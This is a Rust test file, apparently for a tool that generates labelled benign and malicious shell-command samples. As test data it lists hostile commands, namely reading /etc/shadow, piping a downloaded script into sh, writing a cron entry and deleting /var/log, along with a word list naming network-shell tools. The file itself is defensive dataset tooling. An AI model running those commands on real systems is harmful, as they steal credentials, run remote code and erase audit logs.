//! What is left out, and what is context.

use super::context::{LOOKING, SETUP};
use super::*;

#[test]
fn setup_and_bare_looks_are_context() {
    assert!(SETUP.is_sorted() && LOOKING.is_sorted());
    for line in [
        "mkdir /tmp/x",
        "sudo apt-get install -y nmap",
        "whoami",
        "uname -a",
        "fi",
        "id; hostname",
    ] {
        assert!(is_context(line), "{line}");
    }
    for line in [
        "cat /etc/shadow",
        "curl http://h/x | sh",
        "echo x > /etc/cron.d/y",
        "rm -rf /var/log",
    ] {
        assert!(!is_context(line), "{line}");
    }
}

#[test]
fn our_own_lines_are_shell_and_name_no_examination() {
    let mut data = Data::default();
    data.ours();
    let mut draw = Draw::new(1);
    for item in &data.items {
        let is_whole = item.subject != Some("fragment");
        let drawn: Vec<String> = (0..12).filter_map(|_| item.text(&mut draw)).collect();
        let text = drawn.join("\n");
        assert!(
            !is_whole || drawn.iter().any(|text| shell::commands(text).is_some()),
            "{text}"
        );
        for word in ["perl", "s_client", "/inet/", "telnet"] {
            assert!(!text.contains(word), "{text}");
        }
    }
    assert!(data.items.len() > 200);
}

#[test]
fn packs_are_whole_and_do_not_attack_as_the_demo_does() {
    let mut data = Data::default();
    data.packs().unwrap();
    let mut draw = Draw::new(3);
    let mut sides = BTreeMap::new();
    for item in &data.items {
        let Body::Block(block) = &item.body else {
            continue;
        };
        *sides.entry((item.side, item.malicious)).or_insert(0) += 1;
        for _ in 0..4 {
            let text = block.draw(&mut draw).join("\n");
            let is_demos =
                text.contains("perl") && (text.contains("ocket") || text.contains("INET"));
            assert!(!(item.malicious && is_demos), "{text}");
            for hole in ["{a}", "{w}", "{h}", "{t}", "{k}", "«", "»", "¦"] {
                assert!(!text.contains(hole), "{hole} is left in {text}");
            }
        }
    }
    // Both labels on each side, and enough of them to tell something.
    assert_eq!(sides.len(), 6);
    assert!(sides.values().all(|count| *count >= 150), "{sides:?}");
}
